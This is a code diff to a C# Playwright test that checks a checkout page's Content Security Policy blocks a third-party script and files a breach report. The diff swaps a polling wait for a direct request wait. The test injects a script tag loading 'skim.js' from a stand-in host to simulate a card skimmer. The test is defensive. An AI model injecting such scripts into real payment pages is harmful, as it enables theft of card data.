@@ -15,8 +15,6 @@ public sealed class PolicyBreachTests : BraintreeTest
           window.breaches.push(`${breach.effectiveDirective} ${breach.blockedURI}`));
         """;
 
-    private static readonly TimeSpan Patience = TimeSpan.FromMinutes(2);
-
     protected override (string Key, string Value)[] Settings => [("Braintree:CollectDeviceData", "true")];
 
     protected override bool IsGateways(Uri address) => address.Host == Stranger || base.IsGateways(address);
@@ -48,17 +46,18 @@ public sealed class PolicyBreachTests : BraintreeTest
         await SendReportsAtOnceAsync();
         await Page.AddInitScriptAsync(Record);
         await ReadyToPayAsync(152_11);
-        await Page.EvaluateAsync("""
+        var report = await Page.RunAndWaitForRequestFinishedAsync(() => Page.EvaluateAsync("""
             () => new Promise(done => {
               const script = document.createElement('script');
               Object.assign(script, { src: 'https://stranger.example/skim.js', onerror: done });
               document.head.append(script);
             })
-            """);
+            """), new() { Predicate = request => request.Url == $"{Stage.Address}/portal/policy-reports" });
 
         Assert.That(await Page.EvaluateAsync<string[]>("window.breaches"),
             Is.EqualTo(["script-src-elem https://stranger.example/skim.js"]));
-        Assert.That(await ReportsAsync(atLeast: before + 1), Is.EqualTo(before + 1));
+        Assert.That((await report.ResponseAsync())?.Status, Is.EqualTo(204));
+        Assert.That(await ReportsAsync(), Is.EqualTo(before + 1));
     }
 
     /// <summary>
@@ -80,19 +79,12 @@ public sealed class PolicyBreachTests : BraintreeTest
         await route.FulfillAsync(new() { Response = answer, Headers = headers });
     });
 
-    /// <returns>How many the alarm counts, as soon as there are so many.</returns>
-    private static async Task<long> ReportsAsync(long atLeast = 0)
+    /// <returns>How many reports the alarm counts.</returns>
+    private static async Task<long> ReportsAsync()
     {
-        using var patience = new CancellationTokenSource(Patience);
-        while (true)
-        {
-            var ready = JsonSerializer.Deserialize<JsonElement>(await Stage.Api.Http.GetStringAsync("/health/ready"));
-            var count = ready.GetProperty("alarms").EnumerateArray()
-                .Where(alarm => alarm.Text("code") == AlarmCode.PolicyBreached.Code)
-                .Sum(alarm => alarm.Number("count"));
-            if (count >= atLeast)
-                return count;
-            await Task.Delay(TimeSpan.FromMilliseconds(100), patience.Token);
-        }
+        var ready = JsonSerializer.Deserialize<JsonElement>(await Stage.Api.Http.GetStringAsync("/health/ready"));
+        return ready.GetProperty("alarms").EnumerateArray()
+            .Where(alarm => alarm.Text("code") == AlarmCode.PolicyBreached.Code)
+            .Sum(alarm => alarm.Number("count"));
     }
 }
